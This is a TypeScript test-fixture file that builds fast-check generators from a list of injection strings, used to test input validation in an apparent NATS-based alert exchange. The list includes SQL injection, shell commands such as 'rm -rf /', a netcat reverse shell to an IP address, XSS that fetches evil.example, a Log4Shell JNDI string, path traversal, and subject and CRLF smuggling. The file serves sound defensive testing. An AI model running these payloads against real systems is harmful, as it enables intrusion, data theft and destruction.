// Injection strings: what an attacker types into any field it can reach. In free text they are
// data and must arrive unchanged; in structured fields (ids, codes, names) the contract refuses them.
import fc from "fast-check";

export const INJECTIONS: readonly string[] = [
  // SQL
  "'; DROP TABLE alerts; --",
  "\" OR \"1\"=\"1",
  "1' UNION SELECT seed FROM identities--",
  // shell
  "$(rm -rf /)",
  "`cat /etc/shadow`",
  "; nc -e /bin/sh 203.0.113.9 4444",
  "&& shutdown -h now",
  // HTML, script, templates
  "<script>alert(document.cookie)</script>",
  "<img src=x onerror=alert(1)>",
  "</title><svg onload=fetch('//evil.example')>",
  "javascript:alert(1)",
  "{{constructor.constructor('return process')().exit()}}",
  "${jndi:ldap://evil.example/a}",
  // path traversal
  "../../../../etc/passwd",
  "..\\..\\windows\\system32\\config\\SAM",
  "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
  // NATS subjects: wildcards, separators, the exchange's own names
  "*",
  ">",
  "atix.deliver.*.alert",
  "atix.submit.AZ.>",
  "$JS.API.STREAM.DELETE.ATIX_AUDIT",
  "_INBOX_AZ.steal",
  "a b\tc",
  "KV_ATIX_SEEN.>",
  // protocol and terminal control
  "alert\r\nPUB atix.deliver.AZ.alert 5\r\nhello\r\n",
  "\r\n\r\nHTTP/1.1 200 OK",
  "nul\u0000byte",
  "\u001b[2J\u001b[31mRED",
  // bidirectional overrides and invisible characters
  "\u202Egnp.exe",
  "\u2066admin\u2069\u2067",
  "zero\u200Bwidth\uFEFF",
  // prototype pollution and JSON look-alikes
  "__proto__",
  "constructor",
  "{\"$ne\": null}",
  "\"},\"sender\":\"AZ",
];

/** Only white space (JavaScript's \s): not a text by the contract's rule. */
export const BLANKS: readonly string[] = ["", " ", "\r\n", "\t \n", "\uFEFF", "\u00A0\u2028"];

/** One to three injection strings run together. */
export const arbInjection: fc.Arbitrary<string> = fc
  .array(fc.constantFrom(...INJECTIONS), { minLength: 1, maxLength: 3 })
  .map((parts) => parts.join(""));

/** A very long run of one hostile character, `length` UTF-16 units. */
export const arbLongRun = (length: number): fc.Arbitrary<string> =>
  fc.constantFrom("A", "\u202E", "\u0000", "*", "../", "<").map((c) => c.repeat(Math.ceil(length / c.length)).slice(0, length));
